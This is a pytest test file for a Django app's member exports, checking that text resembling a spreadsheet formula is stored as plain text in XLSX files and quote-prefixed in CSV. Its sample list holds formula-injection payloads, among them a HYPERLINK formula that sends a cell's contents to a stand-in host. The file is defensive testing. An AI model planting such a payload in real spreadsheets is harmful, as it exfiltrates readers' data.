"""Exports never hand a formula to the reader's spreadsheet; numbers stay numbers."""

import io
import zipfile
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from chibo.spreadsheets import append_row, csv_safe

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A2,"Bấm vào đây")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def saved(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    workbook = Workbook()
    append_row(workbook.active, [text, 5, 2.5, date(2026, 11, 3), None])

    content = saved(workbook)

    assert "<f>" not in sheet_xml(content)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [sheet.cell(1, column) for column in range(1, 6)]
    assert cells[0].value == text.replace("\r", "\n")  # XML keeps no bare CR
    assert [cell.data_type for cell in cells[:4]] == ["s", "n", "n", "d"]
    assert (cells[1].value, cells[2].value) == (5, 2.5)
    assert cells[3].value.date() == date(2026, 11, 3)
    assert cells[4].value is None


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_look_like_formulas_are_quoted(text):
    assert csv_safe(text) == "'" + text
    assert csv_safe("Nguyễn Văn A") == "Nguyễn Văn A"
    assert csv_safe(5) == 5


def test_the_member_export_writes_hostile_names_as_text(tree, persona_client):
    tree.member.full_name = HOSTILE[0]
    tree.member.phone = "=1+2"
    tree.member.save()
    tree.cell.name = "=2+3 Chi bộ Khối phố 5"
    tree.cell.save()

    response = persona_client("secretary").get(
        reverse("members:export-members", args=[tree.cell.pk])
    )

    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert "<f>" not in sheet_xml(response.content)
    rows = list(
        load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    )
    assert any(row[0] == HOSTILE[0] and "=1+2" in row for row in rows)
    assert any("=2+3 Chi bộ Khối phố 5" in row for row in rows)
